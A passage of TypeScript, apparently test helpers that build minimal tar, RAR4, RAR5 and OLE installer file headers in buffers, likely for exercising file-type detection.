  const header = Buffer.alloc(1024);
  header.write(name);
  header.write("00000000000", 124);
  header.write("ustar", 257);
  return header;
}

function rar4(name: string, flags: number): Buffer {
  const header = Buffer.alloc(32);
  header[2] = 0x74;
  header.writeUInt16LE(flags, 3);
  header.writeUInt16LE(32 + name.length, 5);
  header.writeUInt16LE(name.length, 26);
  return Buffer.concat([Buffer.from("Rar!\x1a\x07\0", "latin1"), header, Buffer.from(name)]);
}

/** `extra` is the extra area of the file's header: records of size, type and data. */
function rar5(name: string, extra: string): Buffer {
  const fields = `\0\x05\x05\0\0${String.fromCharCode(name.length)}${name}${extra}`;
  const header = `\x02${extra === "" ? "\0" : `\x01${String.fromCharCode(extra.length)}`}${fields}`;
  return Buffer.from(`Rar!\x1a\x07\x01\0\0\0\0\0${String.fromCharCode(header.length)}${header}`, "latin1");
}

function installer(): Buffer {
  const file = Buffer.alloc(2048);
  file.write("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "latin1");
  file.writeUInt16LE(9, 30);
  file.writeUInt32LE(1, 48);
  file.write("\x84\x10\x0c\0\0\0\0\0\xc0\0\0\0\0\0\0\x46", 2 * 512 + 80, "latin1");
  return file;
}
